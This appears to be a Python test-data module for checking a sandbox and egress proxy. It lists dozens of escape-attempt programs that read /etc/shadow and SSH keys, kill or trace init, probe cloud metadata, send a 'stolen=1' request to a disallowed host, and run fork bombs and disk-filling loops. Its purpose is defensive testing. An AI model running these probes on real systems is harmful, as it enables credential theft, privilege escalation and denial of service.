# ruff: noqa: E501 -- lines of programs that are run elsewhere
"""Attempts to get out of a sandbox. Each is a program that prints ``ESCAPED`` if it succeeds.

Where an attempt is seen: ``refused NAME`` is a system call that the driver is told of, ``egress REASON`` a
connection that the proxy refuses and tells of, ``ends REASON`` the end of the sandbox, with its status, and
``error`` nothing but the failure of the attempt itself, which has found nothing there.
"""

from dataclasses import dataclass

__all__ = ["ESCAPES", "PRELUDE", "Escape"]

PRELUDE = r"""
import ctypes, errno, os, socket, struct, sys, time, glob, signal, subprocess, stat
libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
def escaped(*what): print("ESCAPED", *what, flush=True)
def call(x86, other, *arguments):
    return libc.syscall(x86 if X86 else other, *arguments)
def proxied(head):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(head)
    answer = b""
    while piece := s.recv(65536): answer += piece
    return answer
def connect_to(target):
    answer = proxied(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    if b" 200 " in answer.split(b"\r\n")[0]: escaped(target)
def readable(path):
    try:
        with open(path, "rb") as file: return file.read(4096)
    except OSError: return b""
"""


@dataclass(frozen=True)
class Escape:
    """One attempt."""

    name: str
    seen: str
    program: str
    """``{secret}`` stands for a path of the server's outside of the sandbox, ``{port}`` for a port on which the
    machine listens, ``{pid}`` for the id of a process of the machine."""


ESCAPES = (
    # Files
    Escape("the server's data directory", "error", "if readable('{secret}'): escaped()"),
    Escape("another workspace by its path", "error", "if os.path.exists('{other}'): escaped()"),
    Escape(
        "upwards from the workspace",
        "error",
        "if readable('/workspace/../../../../../../..{secret}'): escaped()",
    ),
    Escape(
        "a symbolic link to the server's files",
        "error",
        "os.symlink('{secret}', 'link')\nif readable('link'): escaped()",
    ),
    Escape(
        "a hard link out of a mount",
        "error",
        """
try:
    os.link('/usr/bin/env', '/workspace/env'); escaped()
except OSError: pass
""",
    ),
    Escape(
        "writing to /usr",
        "error",
        """
for path in ('/usr/bin/x', '/etc/passwd', '/etc/ld.so.preload', '/x', '/run/x', '/dev/x', '/proc/sys/kernel/core_pattern'):
    try:
        open(path, 'ab').write(b'x'); escaped(path)
    except OSError: pass
""",
    ),
    Escape(
        "passwords and keys of the machine",
        "error",
        """
for path in ('/etc/shadow', '/root/.ssh/id_rsa', '/etc/ssh/ssh_host_ed25519_key', '/etc/machine-id', '/var/log', '/home/agent/../root', '/boot', '/sys', '/root/.aws'):
    if readable(path) or (os.path.isdir(path) and os.listdir(path)): escaped(path)
""",
    ),
    Escape(
        "the root directory through /proc",
        "error",
        """
for path in glob.glob('/proc/[0-9]*/root'):
    if readable(path + '{secret}'): escaped(path)
for path in glob.glob('/proc/[0-9]*/cwd'):
    if readable(path + '{secret}'): escaped(path)
""",
    ),
    Escape(
        "open files of others through /proc",
        "error",
        """
for path in glob.glob('/proc/[0-9]*/fd/*'):
    if int(path.split('/')[2]) != os.getpid():
        try:
            os.open(path, os.O_RDWR); escaped(path)
        except OSError: pass
""",
    ),
    Escape(
        "a file by its handle",
        "refused open_by_handle_at",
        """
handle = struct.pack('IiQQ', 8, 1, 2, 0)
if call(304, 265, os.open('/workspace', os.O_RDONLY), ctypes.c_char_p(handle), os.O_RDONLY) >= 0: escaped()
""",
    ),
    Escape(
        "leaving a chroot",
        "refused chroot",
        """
os.makedirs('jail', exist_ok=True)
if libc.chroot(b'jail') == 0: escaped()
""",
    ),
    # Environment and processes
    Escape(
        "the server's environment",
        "error",
        """
for path in glob.glob('/proc/[0-9]*/environ'):
    if b'a-secret-of-the-server' in readable(path): escaped(path)
""",
    ),
    Escape(
        "processes of the machine",
        "error",
        """
for path in glob.glob('/proc/[0-9]*/cmdline'):
    if int(path.split('/')[2]) != os.getpid() and b'pytest' in readable(path): escaped(path)
""",
    ),
    Escape(
        "a signal to a process of the machine",
        "error",
        """
try:
    os.kill({pid}, 0); escaped()
except OSError: pass
for number in range(1, 4000):
    if number not in map(int, [p[6:] for p in glob.glob('/proc/[0-9]*')]):
        try:
            os.kill(number, 0); escaped(number)
        except OSError: pass
""",
    ),
    Escape(
        "killing the init",
        "error",
        """
for number in (1, os.getppid()):
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass
time.sleep(0.5)
if os.getppid() != 1: escaped("the init is gone")
""",
    ),
    Escape(
        "ptrace of the init",
        "refused ptrace",
        """
if libc.ptrace(16, os.getppid(), 0, 0) == 0: escaped()
""",
    ),
    Escape(
        "memory of the init",
        "refused process_vm_readv",
        """
buffer = ctypes.create_string_buffer(8)
class V(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
near, far = V(ctypes.addressof(buffer), 8), V(0x400000, 8)
if libc.process_vm_readv(os.getppid(), ctypes.byref(near), 1, ctypes.byref(far), 1, 0) > 0: escaped()
""",
    ),
    Escape(
        "memory of the init through /proc",
        "error",
        """
for number in (1, os.getppid()):
    try:
        open(f'/proc/{{number}}/mem', 'rb+'); escaped()
    except OSError: pass
""",
    ),
    Escape(
        "a descriptor of the init",
        "refused pidfd_getfd",
        """
for number in range(30):
    if call(438, 438, os.pidfd_open(os.getppid()), number, 0) >= 0: escaped(number)
""",
    ),
    Escape(
        "the control socket of the init",
        "error",
        """
for number in range(3, 200):
    try:
        os.write(number, b'{{"exit": 0}}\\n'); escaped(number)
    except OSError: pass
""",
    ),
    Escape(
        "the priority of the machine",
        "error",
        """
try:
    os.nice(-5); escaped()
except OSError: pass
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)); escaped()
except OSError: pass
""",
    ),
    # Identity
    Escape(
        "becoming root",
        "error",
        """
for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try:
        change(); escaped()
    except OSError: pass
""",
    ),
    Escape(
        "a set-uid program",
        "error",
        """
for program in ('/usr/bin/su', '/usr/bin/mount', '/usr/bin/passwd', '/usr/bin/sudo', '/usr/bin/newgrp'):
    if os.path.exists(program):
        subprocess.run([program, '--version'], capture_output=True)
subprocess.run(['/bin/cp', '/usr/bin/id', 'own-id'])
os.chmod('own-id', 0o6755)
if subprocess.run(['./own-id', '-u'], capture_output=True, text=True).stdout.strip() == '0': escaped()
if 'NoNewPrivs:\\t1' not in open('/proc/self/status').read(): escaped('new privileges')
""",
    ),
    Escape(
        "a capability",
        "error",
        """
for line in open('/proc/self/status'):
    if line.startswith(('CapEff', 'CapPrm', 'CapAmb')) and int(line.split()[1], 16): escaped(line)
""",
    ),
    Escape("a namespace for users", "refused unshare", "if libc.unshare(0x10000000) == 0: escaped()"),
    Escape(
        "a namespace by clone",
        "refused clone",
        """
child = call(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
if child == 0: os._exit(0)
if child > 0: escaped()
""",
    ),
    Escape(
        "a namespace by clone3",
        "error",
        """
arguments = struct.pack('8Q', 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
child = call(435, 435, ctypes.c_char_p(arguments), 64)
if child == 0: os._exit(0)
if child > 0: escaped()
""",
    ),
    Escape(
        "a namespace of another process",
        "refused setns",
        """
try:
    descriptor = os.open('/proc/1/ns/mnt', os.O_RDONLY)
except OSError:
    descriptor = os.open('/proc/self/ns/net', os.O_RDONLY)
if libc.setns(descriptor, 0) == 0: escaped()
""",
    ),
    # The kernel
    Escape("a mount", "refused mount", "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: escaped()"),
    Escape("undoing a mount", "refused umount2", "if libc.umount2(b'/workspace', 2) == 0: escaped()"),
    Escape("a mount by the newer calls", "refused fsopen", "if call(430, 430, b'tmpfs', 0) >= 0: escaped()"),
    Escape("a copy of the mounts", "refused open_tree", "if call(428, 428, -100, b'/', 1) >= 0: escaped()"),
    Escape("another root", "refused pivot_root", "if call(155, 41, b'/tmp', b'/tmp') == 0: escaped()"),
    Escape(
        "a key of the session",
        "refused add_key",
        """
if call(248, 217, b'user', b'name', b'value', 5, -3) >= 0: escaped()
""",
    ),
    Escape("keyrings of the machine", "refused keyctl", "if call(250, 219, 0, -4, 0) >= 0: escaped()"),
    Escape("a program in the kernel", "refused bpf", "if call(321, 280, 5, b'\\0' * 64, 64) >= 0: escaped()"),
    Escape(
        "io_uring",
        "refused io_uring_setup",
        """
if call(425, 425, 8, ctypes.create_string_buffer(256)) >= 0: escaped()
""",
    ),
    Escape("userfaultfd", "refused userfaultfd", "if call(323, 282, 0) >= 0: escaped()"),
    Escape(
        "performance events",
        "refused perf_event_open",
        """
if call(298, 241, ctypes.create_string_buffer(128), 0, -1, -1, 0) >= 0: escaped()
""",
    ),
    Escape("a module of the kernel", "refused init_module", "if call(175, 105, b'', 0, b'') == 0: escaped()"),
    Escape(
        "the kernel's log",
        "refused syslog",
        """
if call(103, 116, 3, ctypes.create_string_buffer(4096), 4096) > 0: escaped()
for path in ('/proc/kmsg', '/dev/kmsg', '/proc/kcore', '/proc/kallsyms', '/proc/keys'):
    if readable(path): escaped(path)
""",
    ),
    Escape(
        "the clock of the machine",
        "refused clock_settime",
        """
if call(227, 112, 0, struct.pack('QQ', 1, 1)) == 0: escaped()
""",
    ),
    Escape("the machine's name", "refused sethostname", "if libc.sethostname(b'x', 1) == 0: escaped()"),
    Escape("a restart of the machine", "refused reboot", "libc.reboot(0x1234567)"),
    Escape(
        "the 32-bit interface",
        "error",
        """
if X86:
    child = os.fork()
    if child == 0:
        if libc.syscall(0x40000000 | 101, 16, os.getppid(), 0, 0) == 0: escaped()
        os._exit(0)
    os.waitpid(child, 0)
""",
    ),
    Escape(
        "input to a terminal",
        "refused ioctl",
        """
import fcntl, pty
leader, follower = pty.openpty()
try:
    fcntl.ioctl(follower, 0x5412, b'x'); escaped()
except OSError: pass
""",
    ),
    Escape(
        "a device",
        "error",
        """
for kind, numbers in ((stat.S_IFBLK, (8, 0)), (stat.S_IFBLK, (254, 0)), (stat.S_IFCHR, (1, 1))):
    try:
        os.mknod('device', 0o600 | kind, os.makedev(*numbers)); escaped()
    except OSError: pass
for path in glob.glob('/dev/*'):
    if stat.S_ISBLK(os.lstat(path).st_mode) or path in ('/dev/mem', '/dev/kvm', '/dev/fuse', '/dev/net'): escaped(path)
""",
    ),
    Escape(
        "control groups",
        "error",
        """
for path in glob.glob('/sys/fs/cgroup/*') + ['/sys/fs/cgroup/release_agent']:
    escaped(path) if os.path.exists(path) else None
""",
    ),
    # The network
    Escape(
        "an address without the proxy",
        "error",
        """
for host in ('1.1.1.1', '10.0.0.1', '192.0.2.1', '{address}'):
    try:
        socket.create_connection((host, {port}), timeout=2); escaped(host)
    except OSError: pass
""",
    ),
    Escape(
        "the loopback interface of the machine",
        "error",
        """
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2); escaped()
except OSError: pass
""",
    ),
    Escape(
        "DNS without the proxy",
        "error",
        """
for server in ('8.8.8.8', '127.0.0.53', '169.254.169.253'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
    try:
        s.sendto(b'\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1', (server, 53)); s.recv(512); escaped()
    except OSError: pass
try:
    socket.getaddrinfo('example.com', 80); escaped()
except OSError: pass
""",
    ),
    Escape(
        "raw packets",
        "refused socket",
        """
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1); escaped(family)
    except OSError: pass
""",
    ),
    Escape(
        "the host of a virtual machine",
        "refused socket",
        """
try:
    s = socket.socket(40, socket.SOCK_STREAM); escaped()
except OSError: pass
""",
    ),
    Escape(
        "the kernel's cryptography",
        "refused socket",
        """
try:
    socket.socket(38, socket.SOCK_SEQPACKET); escaped()
except OSError: pass
""",
    ),
    Escape(
        "netfilter by netlink",
        "refused socket",
        """
for protocol in (9, 12, 15, 16, 21):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); escaped(protocol)
    except OSError: pass
socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
""",
    ),
    Escape(
        "input to a terminal, with rubbish in the upper half of the request",
        "refused ioctl",
        """
import pty
leader, follower = pty.openpty()
for request in (0x100005412, 0xFFFFFFFF00005412, 0x10000541C):
    if call(16, 29, follower, ctypes.c_ulong(request), b"x") == 0: escaped(request)
""",
    ),
    Escape(
        "a host that is not allowed, by a relay inside",
        "egress host",
        """
import threading
listener = socket.create_server(('127.0.0.1', 0))
def relay():
    near, _ = listener.accept()
    far = socket.create_connection(('127.0.0.1', 3128))
    far.sendall(near.recv(65536))
    near.sendall(far.recv(65536))
    near.close()
threading.Thread(target=relay, daemon=True).start()
s = socket.create_connection(listener.getsockname())
s.sendall(b'CONNECT example.org:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')
if b' 200 ' in s.recv(65536)[:20]: escaped()
""",
    ),
    Escape(
        "a host that is not allowed, by plain HTTP",
        "egress host",
        """
if b' 200 ' in proxied(b'GET http://example.org/?stolen=1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')[:20]: escaped()
""",
    ),
    Escape(
        "an interface of the network",
        "error",
        """
for name in os.listdir('/sys/class/net') if os.path.isdir('/sys/class/net') else []:
    if name != 'lo': escaped(name)
if {name for _, name in socket.if_nameindex()} - {'lo'}: escaped()
""".replace("{name for", "{{name for")
        .replace("socket.if_nameindex()} -", "socket.if_nameindex()}} -")
        .replace("{'lo'}", "{{'lo'}}"),
    ),
    Escape(
        "an abstract socket of the machine",
        "error",
        """
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('\\0{abstract}'); escaped()
except OSError: pass
""",
    ),
    Escape(
        "a socket of the machine by its path",
        "error",
        """
for path in ('/run/docker.sock', '/var/run/docker.sock', '/run/podman/podman.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '{socket}'):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path); escaped(path)
    except OSError: pass
""",
    ),
    # Through the proxy
    Escape("the metadata of a cloud", "egress address", "connect_to('169.254.169.254:80')"),
    Escape(
        "the metadata of a cloud by plain HTTP",
        "egress address",
        """
if b' 200 ' in proxied(b'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\n\\r\\n')[:20]: escaped()
""",
    ),
    Escape("the metadata of a cloud by its name", "egress host", "connect_to('metadata.google.internal:80')"),
    Escape(
        "an address in other spellings",
        "egress address",
        """
for host in ('2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '127.1', '[::1]', '[::ffff:127.0.0.1]', '0'):
    connect_to(f'{host}:80')
""".replace("{host}", "{{host}}"),
    ),
    Escape("a host that is not allowed", "egress host", "connect_to('example.org:443')"),
    Escape(
        "a host that ends like one that is allowed",
        "egress host",
        """
connect_to('evilallowed.test:{port}'); connect_to('allowed.test.evil.test:{port}')
""",
    ),
    Escape("another port of a host that is allowed", "egress port", "connect_to('allowed.test:22')"),
    Escape("a name that resolves to this machine", "egress private", "connect_to('inward.test:443')"),
    Escape("a name that resolves to the metadata", "egress private", "connect_to('metadata.test:443')"),
    Escape("a name of which one address is public", "egress private", "connect_to('mixed.test:443')"),
    Escape(
        "a user in the URL",
        "egress malformed",
        """
if b' 200 ' in proxied(b'GET http://allowed.test@127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n')[:20]: escaped()
""",
    ),
    Escape(
        "a line end in the target",
        "egress malformed",
        """
if b' 200 ' in proxied(b'CONNECT allowed.test:{port}\\nHost: x HTTP/1.1\\r\\n\\r\\n')[:20]: escaped()
""",
    ),
    # Limits
    Escape(
        "a fork bomb",
        "ends processes",
        """
end = time.monotonic() + 30
while time.monotonic() < end:
    try:
        if os.fork() == 0: time.sleep(60)
    except OSError: pass
""",
    ),
    Escape(
        "threads without end",
        "ends processes",
        """
import threading
end = time.monotonic() + 30
while time.monotonic() < end:
    try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError: pass
""",
    ),
    Escape("all of the memory", "ends memory", "a = []\nwhile True: a.append(bytearray(8 << 20))"),
    Escape(
        "memory as files",
        "ends memory",
        """
try:
    for n in range(1000): open(f'/dev/shm/{{n}}', 'wb').write(bytes(1 << 20))
except OSError: pass
a = []
while True: a.append(bytearray(8 << 20))
""",
    ),
    Escape(
        "all of the disk",
        "ends disk",
        """
n = 0
while n < 5000:
    n += 1
    open(f'f{{n}}', 'wb').write(bytes(1 << 20))
    time.sleep(0.002)
time.sleep(30)
""",
    ),
    Escape(
        "all of the disk by the home",
        "ends disk",
        """
n = 0
while n < 5000:
    n += 1
    open(f'/home/agent/f{{n}}', 'wb').write(bytes(1 << 20))
    time.sleep(0.002)
time.sleep(30)
""",
    ),
    Escape(
        "directories without end",
        "ends disk",
        """
for n in range(400):
    os.mkdir('d'); os.chdir('d')
open('/workspace/more', 'wb').write(bytes(8 << 20))
time.sleep(40)
""",
    ),
    Escape(
        "a file of any length",
        "error",
        """
try:
    os.truncate(os.open('long', os.O_CREAT | os.O_RDWR), 1 << 45); escaped()
except OSError: pass
""",
    ),
    Escape("time without end", "ends timeout", "time.sleep(600)"),
    Escape(
        "a core dump",
        "error",
        """
import resource
if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0): escaped()
try:
    resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)); escaped()
except (OSError, ValueError): pass
""",
    ),
)
